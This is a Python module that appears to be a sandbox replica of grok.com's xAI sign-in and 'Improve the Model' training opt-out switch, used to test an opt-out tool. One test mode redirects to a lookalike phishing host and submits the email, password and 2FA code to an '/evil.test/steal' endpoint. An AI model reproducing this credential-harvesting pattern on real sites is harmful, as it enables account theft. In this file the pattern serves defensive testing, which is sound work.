"""grok.com replica: the xAI sign-in at accounts.x.ai and grok.com's Settings → Data Controls →
"Improve the Model" switch, opened by the deep link /?_s=data.

The switch is a button with role=switch and a <label for> (as component libraries render one);
turning it off sends {excludeFromTraining: true} to /rest/user-settings (docs/research/platforms.md §2b). The
sign-in's details (a "Login with email" button revealing the form, the callback that hands the
session to grok.com, the 2FA and Cloudflare pages) are the replica's own; research has none."""

from __future__ import annotations

import html
import json
import secrets
from urllib.parse import urlsplit

from optout.sandbox.replica import Replica, Request, Response, page, redirect

ACCOUNTS = "accounts.x.ai"
LOOKALIKE_HOST = "accounts.x.ai.evil.test"
LABEL = "Improve the Model"
CHANGED_LABEL = "Help make Grok better"
JAPANESE_LABEL = "モデルを改善する"


class Grok(Replica):
    platform = "grok"
    hosts = ("grok.com", ACCOUNTS, LOOKALIKE_HOST)
    settings = ("improve-model",)

    def user(self, req: Request) -> str | None:
        return self.session_user(req.cookies.get("sso"))

    def handle(self, req: Request) -> Response:
        host = urlsplit(req.url).hostname
        if host == LOOKALIKE_HOST:
            return self.sign_in_page(lookalike=True)
        if host == ACCOUNTS:
            return self.accounts(req)
        if req.path == "/":
            return self.app(req) if self.user(req) else self.landing()
        if req.path == "/auth/callback":
            return self.callback(req)
        if req.path == "/rest/user-settings" and req.method == "POST":
            return self.save(req)
        return Response(status=404, body="<h1>Not found</h1>")

    # --- sign-in at accounts.x.ai --------------------------------------------------------------

    def landing(self) -> Response:
        return page(
            f"""<h1>Grok</h1><p>Understand the universe.</p>
<a href="https://{ACCOUNTS}/sign-in?redirect=grok-com">Sign in</a>
<a href="https://{ACCOUNTS}/sign-up?redirect=grok-com">Sign up</a>""",
            title="Grok",
        )

    def accounts(self, req: Request) -> Response:
        if req.path == "/sign-in":
            if self.misbehaves("lookalike_login"):
                return redirect(f"https://{LOOKALIKE_HOST}/sign-in?redirect=grok-com")
            return self.sign_in_page()
        if req.path == "/api/sign-in" and req.method == "POST":
            return self.sign_in(req)
        if req.path == "/api/verify-totp" and req.method == "POST":
            return self.verify_totp(req)
        return Response(status=404, body="<h1>Not found</h1>")

    def sign_in_page(self, *, lookalike: bool = False) -> Response:
        base = f"https://{LOOKALIKE_HOST}/steal" if lookalike else "/api"
        form = """<form id="login">
  <label>Email <input type="email" name="email" autocomplete="email"></label>
  <label>Password <input type="password" name="password" autocomplete="current-password"></label>
  <div role="alert" id="error"></div>
  <button type="submit">Login</button>
</form>"""
        totp = """<h2>Two-factor authentication</h2>
<p>Enter the 6-digit code from your authenticator app.</p>
<form id="totp">
  <label>Code <input name="code" inputmode="numeric" autocomplete="one-time-code"></label>
  <div role="alert" id="error"></div>
  <button type="submit">Verify</button>
</form>"""
        cloudflare = """<h2>accounts.x.ai</h2><p>Verify you are human by completing the action below.</p>
<iframe title="Widget containing a Cloudflare security challenge"
  src="https://challenges.cloudflare.com/cdn-cgi/challenge-platform/h/g/turnstile/if/ov2/replica"></iframe>"""
        script = f"""
const box = document.getElementById('box');
const VIEWS = {json.dumps({"form": form, "totp": totp, "cloudflare": cloudflare})};
let ticket = null;
function show(view, error) {{
  box.innerHTML = VIEWS[view];
  if (error) document.getElementById('error').textContent = error;
}}
document.getElementById('email-entry').addEventListener('click', () => setTimeout(() => show('form'), 400));
box.addEventListener('submit', async (event) => {{
  event.preventDefault();
  const data = Object.fromEntries(new FormData(event.target));
  const url = event.target.id === 'totp' ? {json.dumps(base + "/verify-totp")} : {json.dumps(base + "/sign-in")};
  const r = await fetch(url, {{method: 'POST', headers: {{'content-type': 'application/json'}},
    body: JSON.stringify({{...data, ticket}})}});
  const answer = await r.json();
  ticket = answer.ticket || ticket;
  if (answer.next) location.replace(answer.next);
  else show(answer.view, answer.error);
}});"""
        body = """<h1>Sign in</h1>
<div id="box">
  <button type="button">Login with X</button>
  <button type="button">Login with Google</button>
  <button type="button" id="email-entry">Login with email</button>
</div>"""
        return page(body, title="Sign in - xAI", script=script)

    def sign_in(self, req: Request) -> Response:
        data = req.json if isinstance(req.json, dict) else {}
        user, password = str(data.get("email", "")), str(data.get("password", ""))
        ok = self.check_password(user, password)
        if not ok:
            return answer({"view": "form", "error": "Incorrect email or password."})
        if self.misbehaves("checkpoint"):
            return answer({"view": "cloudflare"})
        if self.wants_code(user):
            ticket = secrets.token_urlsafe(12)
            self.state.setdefault("tickets", {})[ticket] = user
            self.sandbox.save()
            return answer({"view": "totp", "ticket": ticket})
        return self.signed_in(user)

    def verify_totp(self, req: Request) -> Response:
        data = req.json if isinstance(req.json, dict) else {}
        user = self.state.get("tickets", {}).get(str(data.get("ticket")))
        ok = self.check_code(user, str(data.get("code", "")))
        if not ok:
            return answer({"view": "totp", "error": "That code is not valid."})
        return self.signed_in(user)

    def signed_in(self, user: str) -> Response:
        """The session belongs to grok.com: hand it over with a one-time code, as SSO does."""
        code = secrets.token_urlsafe(12)
        self.state.setdefault("codes", {})[code] = user
        self.sandbox.save()
        return answer({"next": f"https://grok.com/auth/callback?code={code}"})

    def callback(self, req: Request) -> Response:
        user = self.state.get("codes", {}).pop(req.query.get("code", ""), None)
        if user is None:
            return redirect("/")
        token = self.new_session(user)
        return redirect("/", headers={"set-cookie": f"sso={token}; Path=/; Secure; HttpOnly"})

    # --- grok.com and its Data Controls --------------------------------------------------------

    def app(self, req: Request) -> Response:
        lang = "ja" if self.misbehaves("language") else "en"
        shell = """<h1>Grok</h1><label>Ask Grok anything <textarea></textarea></label>"""
        if req.query.get("_s") != "data":
            return page(shell, title="Grok", lang=lang)
        on = self.settings_of(self.user(req))["improve-model"]
        label = (
            JAPANESE_LABEL
            if lang == "ja"
            else CHANGED_LABEL
            if self.misbehaves("label_gone")
            else LABEL
        )
        row = (
            ""
            if self.misbehaves("absent")
            else f"""
  <div class="row">
    <div><label for="improve-model">{html.escape(label)}</label>
    <p>Allow your conversations and content to be used to train our models.</p></div>
    <button type="button" role="switch" id="improve-model" aria-checked="{str(on).lower()}"
      data-state="{"checked" if on else "unchecked"}"></button>
  </div>"""
        )
        dialog = f"""
<div role="dialog" aria-labelledby="settings-title">
  <h2 id="settings-title">Settings</h2>
  <nav><button type="button">General</button><button type="button" aria-current="page">Data Controls</button></nav>
  <section aria-label="Data Controls">{row}
    <button type="button">Delete all conversations</button>
  </section>
  <div role="status" id="toast"></div>
</div>
<style>.row{{display:flex;justify-content:space-between;gap:16px}}
[role=switch]{{width:40px;height:22px;border-radius:11px;border:0;background:#ccc}}
[role=switch][aria-checked=true]{{background:#111}}</style>"""
        # The app opens the dialog from the query string once it has started, and flips the switch
        # before the server answers.
        script = f"""
function openSettings() {{
  document.querySelector('main').insertAdjacentHTML('beforeend', {json.dumps(dialog)});
  const sw = document.getElementById('improve-model');
  if (!sw) return;
  sw.addEventListener('click', async () => {{
    const on = sw.getAttribute('aria-checked') !== 'true';
    sw.setAttribute('aria-checked', String(on));
    sw.dataset.state = on ? 'checked' : 'unchecked';
    const r = await fetch('/rest/user-settings', {{method: 'POST', headers: {{'content-type': 'application/json'}},
      body: JSON.stringify({{excludeFromTraining: !on}})}});
    document.getElementById('toast').textContent = r.ok ? 'Settings saved' : 'Failed to save settings';
  }});
}}
setTimeout(openSettings, {2000 if self.misbehaves("slow_render") else 150});"""
        return page(shell, title="Grok", lang=lang, script=script)

    def save(self, req: Request) -> Response:
        user = self.user(req)
        if not user:
            return Response(
                status=401, body='{"error":"unauthenticated"}', content_type="application/json"
            )
        data = req.json if isinstance(req.json, dict) else {}
        if not isinstance(data.get("excludeFromTraining"), bool):
            return Response(
                status=400, body='{"error":"bad request"}', content_type="application/json"
            )
        on = not data["excludeFromTraining"]
        if not self.saved(self.settings_of(user), "improve-model", on, on=on):
            return Response(
                status=500, body='{"error":"internal"}', content_type="application/json"
            )
        return Response(body="{}", content_type="application/json")


def answer(data: dict) -> Response:
    return Response(body=json.dumps(data), content_type="application/json")
